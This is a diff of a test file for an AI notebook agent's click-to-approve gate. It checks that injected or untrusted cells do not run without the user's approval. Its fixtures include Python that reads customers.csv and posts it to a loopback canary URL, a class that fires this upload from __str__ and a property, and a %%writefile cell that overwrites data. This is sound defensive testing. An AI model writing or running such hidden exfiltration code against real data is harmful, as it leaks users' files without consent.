@@ -1,3 +1,4 @@
+import { readFileSync } from "node:fs";
 import type { KernelSpec } from "@fiddle/kernels";
 import { expect, test } from "vitest";
 import { openAgent } from "../../../../testing/open-agent.ts";
@@ -9,6 +10,7 @@ const CANARY = "http://127.0.0.1:9/?d=";
 const CELLS = [
   "import pandas as pd\ndf = pd.read_csv('customers.csv')\nsecret = df.to_csv()",
   "import requests\nURL = 'http://127.0.0.1:9/'\ndef sync(frame):\n    requests.post(URL, data=frame.to_csv())",
+  "class Sync:\n    def update(self):\n        sync(df)\n    @property\n    def total(self):\n        sync(df)\n    def __str__(self):\n        sync(df)\nsyncing = Sync()",
 ];
 
 /**
@@ -66,6 +68,16 @@ const ATTACKS: readonly (readonly [name: string, code: string])[] = [
   ["a file of another cell's making", "%%writefile customers.csv\ngone"],
 ];
 
+/**
+ * More of them, written down by what Python and its most used packages can do: each reads, writes or deletes what isn't the run's, opens a
+ * connection, runs code that nobody has read, or draws something that loads an address. Lines of dashes separate them. The gate's own
+ * tests have them all.
+ */
+const MORE_ATTACKS = readFileSync(new URL("attack-cells.txt", import.meta.url), "utf8")
+  .trimEnd()
+  .split("\n---\n")
+  .filter((_, index) => index % 6 === 0);
+
 /** Runs what the model writes, and tells whether that waited for a click. */
 async function obey(code: string, origin: Origin | null, language = "python") {
   const agent = await openAgent({ cells: CELLS, files: { "customers.csv": "a\n1\n", "helper.py": "" } });
@@ -84,6 +96,11 @@ test.each(ATTACKS)("%s: nothing runs before a click", async (_name, code) => {
   expect(state().run?.approval?.reasons.at(-1)).toBe(
     "The agent has read a notebook file that was opened, which can hold instructions that aren't yours.",
   );
+});
+
+test.each(MORE_ATTACKS)("nothing runs before a click:\n%s", async (code) => {
+  const { kernel, state, model } = await obey(code, "data");
+  expect([kernel.ran, model.answers, state().run?.approval?.title]).toEqual([[], [], "Run cell 5"]);
 });
 
 test.each(["file", "link", "copy", "paste", "data"] as const)(
